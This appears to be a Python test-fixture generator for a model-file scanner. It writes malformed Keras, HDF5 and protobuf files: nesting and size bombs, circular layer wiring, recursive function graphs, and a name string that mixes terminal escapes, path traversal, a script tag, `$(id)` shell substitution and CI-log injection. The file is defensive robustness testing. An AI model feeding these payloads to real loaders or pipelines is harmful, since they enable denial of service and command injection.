@_weights_attack("hdf5-hard-cycle")
def hard_cycle(group: h5py.Group, _: Bait) -> None:
    group["up"] = group.parent


@attack("hdf5-many-objects.h5")
def many_objects(path: Path, _: Bait) -> None:
    """More than are looked through; what comes after them may be anything."""
    small = h5py.h5p.create(h5py.h5p.GROUP_CREATE)
    small.set_link_creation_order(h5py.h5p.CRT_ORDER_TRACKED)  # groups of the newer kind
    with stored(path) as h5:
        for index in range(100_001):
            h5py.h5g.create(h5["model_weights"].id, b"%d" % index, gcpl=small)


@attack("hdf5-attribute-bomb.h5")
def attribute_bomb(path: Path, _: Bait) -> None:
    with h5py.File(path, "w", libver="latest") as h5:
        h5.attrs["model_config"] = np.bytes_(b" " * (40 * 2**20))


@attack("hdf5-attribute-shape.h5")
def attribute_shape(path: Path, _: Bait) -> None:
    with h5py.File(path, "w", libver="latest") as h5:
        h5.attrs.create("model_config", np.zeros(2**20, "S8"))


@attack("hdf5-attribute-many.h5")
def attribute_many(path: Path, _: Bait) -> None:
    with h5py.File(path, "w", libver="latest") as h5:
        h5.attrs["model_config"] = legacy(dense())
        for index in range(50_000):
            h5.attrs[f"{index}"] = 1


# -- configs


def _text(path: Path, text: bytes) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", text)


@attack("json-deep.keras")
def json_deep(path: Path, _: Bait) -> None:
    _text(path, b'{"config":' * 300 + b"1" + b"}" * 300)


@attack("json-deeper.keras")
def json_deeper(path: Path, _: Bait) -> None:
    _text(path, b"[" * 1_000_000)


@attack("json-values.keras")
def json_values(path: Path, _: Bait) -> None:
    _text(path, b'{"a":[' + b"[]," * 3_000_000 + b"0]}")


@attack("json-number.keras")
def json_number(path: Path, _: Bait) -> None:
    _text(path, b'{"a":' + b"9" * 1_000_000 + b"}")


@attack("path-bomb.keras")
def path_bomb(path: Path, _: Bait) -> None:
    """Each layer's path holds the name of the model above it."""
    layers = [keras3("Dense", {"name": "d", "units": 1})] * 10_000
    archived(path, keras3("Sequential", {"name": "x" * 2**20, "layers": layers}, "keras"))


@attack("path-bomb-savedmodel")
def path_bomb_savedmodel(path: Path, _: Bait) -> None:
    """A path of a million names, of which each might be that of the object above."""
    _savedmodel(path, _meta_graph(_PLAIN))
    metadata = {"class_name": "pkg>Mine", "config": {"name": "m"}}
    objects = [
        field(3, name) + field(4, b"_tf_keras_layer") + field(5, json.dumps(metadata).encode())
        for name in (b"root", b"root" + b".m" * 1_000_000)
    ]
    (path / "keras_metadata.pb").write_bytes(b"".join(field(1, each) for each in objects))


@attack("bidirectional-bomb.h5")
def bidirectional_bomb(path: Path, _: Bait) -> None:
    layer = {"class_name": "LSTM", "config": {"name": "l", "units": 1}}
    for _level in range(60):
        layer = {"class_name": "Bidirectional", "config": {"name": "b", "layer": layer}}
    stored(path, layer).close()


@attack("units-bomb.h5")
def units_bomb(path: Path, _: Bait) -> None:
    """A layer whose weights no memory holds; Keras makes them as it builds it."""
    stored(path, dense(units=2**40)).close()


def functional(path: Path, *layers: Config) -> None:
    """A Keras 2 model: input ``i``, then ``layers``, of which the last one is the output."""
    first = {"batch_input_shape": [None, 4], "dtype": "float32", "name": "i"}
    head = {"class_name": "InputLayer", "name": "i", "config": first, "inbound_nodes": []}
    last = layers[-1]["name"]
    config = {"name": "m", "layers": [head, *layers], "input_layers": [["i", 0, 0]]}
    root = {"class_name": "Functional", "config": {**config, "output_layers": [[last, 0, 0]]}}
    with stored(path) as h5:
        h5.attrs["model_config"] = json.dumps(root)


def fed(name: str, *feeds: tuple[str, int]) -> Config:
    """A Dense that is called on those layers' calls."""
    nodes = [[[layer, call, 0, {}]] for layer, call in feeds]
    return {**dense(name=name), "name": name, "inbound_nodes": nodes}


@attack("wiring-circle.h5")
def wiring_circle(path: Path, _: Bait) -> None:
    functional(path, fed("a", ("b", 0)), fed("b", ("a", 0)))


@attack("wiring-no-layer.h5")
def wiring_no_layer(path: Path, _: Bait) -> None:
    functional(path, fed("a", ("missing", 0)))


@attack("wiring-no-call.h5")
def wiring_no_call(path: Path, _: Bait) -> None:
    """Keras waits for a call that never comes."""
    functional(path, fed("a", ("i", 0)), fed("b", ("a", 7)))


@attack("wiring-twice.h5")
def wiring_twice(path: Path, _: Bait) -> None:
    functional(path, fed("a", ("i", 0)), fed("a", ("i", 0)))


@attack("wiring-twice-late.keras")
def wiring_twice_late(path: Path, _: Bait) -> None:
    """Whoever looks for the second of each name is busy for minutes."""
    names = [*map(str, range(90_000)), "89999"]
    layers = [{"class_name": "Dense", "name": name, "config": {}} for name in names]
    ends: Config = {"input_layers": [], "output_layers": []}
    root = {"class_name": "Functional", "config": {"name": "m", "layers": layers, **ends}}
    _text(path, json.dumps(root).encode())


@attack("wiring-own-model.h5")
def wiring_own_model(path: Path, _: Bait) -> None:
    """Nobody's attack: the calls of a model of one's own class, which Keras 2 counts from 1."""
    inner = json.loads(legacy(dense()))["config"]
    ends = {"input_layers": [["input", 0, 0]], "output_layers": [["dense", 0, 0]]}
    inner["layers"][0] |= {"name": "input", "inbound_nodes": []}
    inner["layers"][1] |= {"name": "dense", "inbound_nodes": [[["input", 0, 0, {}]]]}
    own = {"class_name": "mine>Mine", "config": {**inner, **ends, "name": "own"}}
    functional(
        path,
        {**own, "name": "own", "inbound_nodes": [[["i", 0, 0, {}]]]},
        fed("a", ("own", 1)),
    )


def _keras3_functional(path: Path, history: list[Any]) -> None:
    value = {"shape": [None, 4], "dtype": "float32", "keras_history": history}
    tensor = {"class_name": "__keras_tensor__", "config": value}
    first = keras3("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "i"})
    layers = [
        {**first, "name": "i", "inbound_nodes": []},
        {
            **keras3("Dense", {"name": "a", "units": 2}),
            "name": "a",
            "inbound_nodes": [{"args": [tensor], "kwargs": {}}],
        },
    ]
    config = {"name": "m", "layers": layers, "input_layers": [["i", 0, 0]]}
    root = keras3("Functional", {**config, "output_layers": [["a", 0, 0]]}, "keras")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        archive.writestr("config.json", json.dumps(root))
        archive.writestr("model.weights.h5", weights())


@attack("wiring-no-call.keras")
def wiring_no_call_3(path: Path, _: Bait) -> None:
    _keras3_functional(path, ["i", 5, 0])


@attack("wiring-no-tensor.keras")
def wiring_no_tensor(path: Path, _: Bait) -> None:
    """The call is there, but it gives no such tensor: only Keras can know."""
    _keras3_functional(path, ["i", 0, 5])


NAME = "a\x1b]0;x\x07/../<script>alert(1)</script>|`$(id)`\r\n::error::\u202e\u200b%0A::error::"


@attack("names.h5")
def names(path: Path, _: Bait) -> None:
    stored(path, {"class_name": NAME, "config": {"name": NAME}}, dense()).close()


@attack("names-dense.keras")
def names_of_an_own_layer(path: Path, _: Bait) -> None:
    """A layer that is rebuilt, if Keras takes the name."""
    archived(path, keras3("Dense", {"name": NAME, "units": 2}))


@attack("protobuf-deep.pb")
def protobuf_deep(path: Path, _: Bait) -> None:
    data = b""
    for _level in range(20_000):
        data = field(1, data)
    path.write_bytes(data)


@attack("protobuf-size.pb")
def protobuf_size(path: Path, _: Bait) -> None:
    path.write_bytes(
        field(1, field(1, b"x") + field(2, b"Const")) + b"\x0a\xff\xff\xff\xff\xff\x7f"
    )


@attack("protobuf-functions.pb")
def protobuf_functions(path: Path, _: Bait) -> None:
    """Functions that call each other in a circle: whoever inlines them never ends."""
    call = field(1, b"c") + field(2, b"PartitionedCall") + field(3, b"x")

    def calls(name: bytes) -> bytes:
        return call + _attribute("f", field(10, field(1, name)))

    def definition(name: bytes, other: bytes) -> bytes:
        return field(1, field(1, field(1, name)) + field(3, calls(other)))

    library = field(2, definition(b"f", b"g") + definition(b"g", b"f"))
    path.write_bytes(_node("x", "Placeholder", **_FLOATS) + field(1, calls(b"f")) + library)


@attack("protobuf-one-name.pb")
def protobuf_one_name(path: Path, _: Bait) -> None:
    """A hundred thousand functions of one name, of which the first one is large."""
    signature = field(1, field(1, b"f"))
    large = field(1, signature + field(3, b"") * 900_000)
    small = field(1, signature + field(3, b""))
    library = field(2, large + small * 100_000)
    path.write_bytes(_node("x", "Placeholder", **_FLOATS) + library)


if __name__ == "__main__":
    (_folder,) = map(Path, sys.argv[1:])
    _folder.mkdir(parents=True, exist_ok=True)
    for _path, _bait in make_all(_folder, 9).values():
        print(_path)
